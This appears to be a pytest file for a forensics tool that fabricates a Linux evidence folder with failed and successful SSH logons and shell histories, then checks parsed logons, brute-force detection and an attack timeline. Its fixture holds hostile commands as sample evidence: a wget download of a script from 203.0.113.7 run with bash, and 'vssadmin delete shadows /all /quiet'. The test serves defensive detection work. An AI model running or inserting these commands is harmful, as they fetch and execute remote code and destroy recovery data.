"""A copied Linux /var/log and home folders, collected into a case: logons, commands, the story."""

from __future__ import annotations

import gzip
import ipaddress
import os
import struct

import pytest

import forensics
from forensics import hunt
from timeline.schema import iso_ns

LINUX = struct.Struct("<h2xi32s4s32s256shhiii16s20x")
T0 = 1_669_165_200  # 2022-11-23T01:00:00Z = 06:30 in Asia/Kolkata
GUESSES = ["root", "admin", "oracle", "test", "ubuntu", "pi", "git", "postgres"]


def rec(typ, pid, line, user, host, sec, usec=0) -> bytes:
    addr = ipaddress.ip_address(host).packed if host else b""
    return LINUX.pack(typ, pid, line.encode(), line[-4:].encode(), user.encode(), host.encode(), 0, 0, 0, sec, usec,
                      addr.ljust(16, b"\0"))


@pytest.fixture(scope="module")
def case_dir(tmp_path_factory):
    root = tmp_path_factory.mktemp("evidence") / "web01"
    (root / "var/log").mkdir(parents=True)
    (root / "home/alice").mkdir(parents=True)
    (root / "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine").mkdir(parents=True)
    # ten failed passwords from 10.0.0.5 (btmp and its compressed rotation), then alice logs on from there
    (root / "var/log/btmp.1.gz").write_bytes(gzip.compress(b"".join(
        rec(6, 900 + i, "ssh:notty", u, "10.0.0.5", T0 + i * 15) for i, u in enumerate(GUESSES))))
    (root / "var/log/btmp").write_bytes(b"".join(
        rec(6, 910 + i, "ssh:notty", u, "10.0.0.5", T0 + 150 + i * 30) for i, u in enumerate(["alice", "alice"])))
    (root / "var/log/wtmp").write_bytes(
        rec(2, 0, "~", "reboot", "", T0 - 3600)
        + rec(7, 4242, "pts/0", "alice", "10.0.0.5", T0 + 300, 250000)
        + rec(8, 4242, "pts/0", "", "", T0 + 1800)
        + b"\x07" * 50)  # a torn last record
    hist = root / "home/alice/.bash_history"
    hist.write_text("uname -a\n#1669165560\nwget http://203.0.113.7/x.sh -O /tmp/x.sh\n#1669165570\nbash /tmp/x.sh\n")
    os.utime(hist, ns=(T0 * 10**9 + 900 * 10**9,) * 2)
    ps = root / "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    ps.write_text('Write-Host "नमस्ते"\nvssadmin delete shadows /all /quiet\n', encoding="utf-8")
    os.utime(ps, ns=(T0 * 10**9 + 1200 * 10**9,) * 2)

    case = forensics.Case(tmp_path_factory.mktemp("case") / "case", create=True, tz="Asia/Kolkata")
    report = case.collect([root], workers=1)
    return case.path, report


def test_collected_rows(case_dir):
    path, report = case_dir
    by = {a["evidence_path"]: (a["collector"], a["rows"], a["lost"]) for a in report.artifacts}
    assert by == {
        "var/log/btmp": ("utmp", 2, 0), "var/log/btmp.1.gz": ("utmp", 8, 0), "var/log/wtmp": ("utmp", 3, 1),
        "home/alice/.bash_history": ("shell_history", 3, 0),
        "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt": ("shell_history", 2, 0),
    }
    assert (report.rows_written, report.errors) == (18, 1)
    info = forensics.Case(path).info()
    assert info["artifacts"] == {"btmp": 10, "wtmp": 3, "bash_history": 3, "powershell_history": 2}
    assert info["problems_by_kind"] == {"error:truncated": 1}


def test_logons_from_login_records(case_dir):
    path, _ = case_dir
    df = forensics.open(path).to_pandas()
    lg = hunt.logons(df)
    assert [(iso_ns(t.value), u, ip, o, m) for t, u, ip, o, m in
            zip(lg["timestamp"], lg["user"], lg["src_ip"], lg["outcome"], lg["method"])] == [
        *[(iso_ns((T0 + i * 15) * 10**9), u, "10.0.0.5", "failure", "login record (btmp)") for i, u in enumerate(GUESSES)],
        ("2022-11-23T01:02:30.000000000Z", "alice", "10.0.0.5", "failure", "login record (btmp)"),
        ("2022-11-23T01:03:00.000000000Z", "alice", "10.0.0.5", "failure", "login record (btmp)"),
        ("2022-11-23T01:05:00.250000000Z", "alice", "10.0.0.5", "success", "login record (wtmp)"),
    ]
    assert iso_ns(lg["timestamp"].iloc[1].value) == "2022-11-23T01:00:15.000000000Z"
    # local time in the case's zone; provenance kept
    assert str(lg["local_time"].iloc[-1]) == "2022-11-23 06:35:00.250000+05:30"
    assert lg[["evidence_path", "record_ref"]].iloc[-1].tolist() == ["var/log/wtmp", "record=1 offset=0x180"]
    # the lazy Timeline gives the same answer (its filter, pushed down to DuckDB, keeps login records)
    tl = forensics.open(path)
    assert tl.logons()[["timestamp", "user", "src_ip", "outcome"]].equals(lg[["timestamp", "user", "src_ip", "outcome"]])
    assert len(tl.logons(success=False)) == 10


def test_brute_force_on_a_host_without_a_name(case_dir):
    path, _ = case_dir
    bf = forensics.open(path).brute_force(threshold=10, window="5min")
    assert bf[["source", "attempts", "users", "success_after"]].to_dict("records") == [
        {"source": "10.0.0.5", "attempts": 10, "users": 9, "success_after": True}]
    # the tree states no host name (no /etc/hostname): its folder, named like a host, names it (collectors.hosts)
    assert bf["host"].tolist() == ["web01"]


def test_commands_from_shell_histories(case_dir):
    path, _ = case_dir
    tl = forensics.open(path)
    pe = tl.process_executions()
    assert [(iso_ns(t.value), u, p, c) for t, u, p, c in zip(pe["timestamp"], pe["user"], pe["process"], pe["command_line"])] == [
        ("2022-11-23T01:06:00.000000000Z", "alice", "bash", "wget http://203.0.113.7/x.sh -O /tmp/x.sh"),
        ("2022-11-23T01:06:10.000000000Z", "alice", "bash", "bash /tmp/x.sh"),
        ("2022-11-23T01:15:00.000000000Z", "alice", "bash", "uname -a"),  # undated: at the file's mtime
        ("2022-11-23T01:20:00.000000000Z", "bob", "powershell", 'Write-Host "नमस्ते"'),
        ("2022-11-23T01:20:00.000000000Z", "bob", "powershell", "vssadmin delete shadows /all /quiet"),
    ]
    assert pe.equals(hunt.process_executions(tl.to_pandas()))
    story = tl.story()
    assert [(iso_ns(t.value), tech) for t, tech in zip(story["timestamp"], story["technique"])] == [
        ("2022-11-23T01:00:00.000000000Z", "T1110"), ("2022-11-23T01:00:00.000000000Z", "T1110.003"),
        ("2022-11-23T01:20:00.000000000Z", "T1490")]
    assert story["finding"].tolist() == ["brute force from 10.0.0.5: 10 failures, 9 accounts, then a success",
                                         "password spraying from 10.0.0.5: 9 accounts, 10 failures",
                                         "recovery inhibited: vssadmin delete shadows /all /quiet"]
    assert story["evidence_path"].tolist()[1:] == [
        "var/log/btmp.1.gz", "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"]
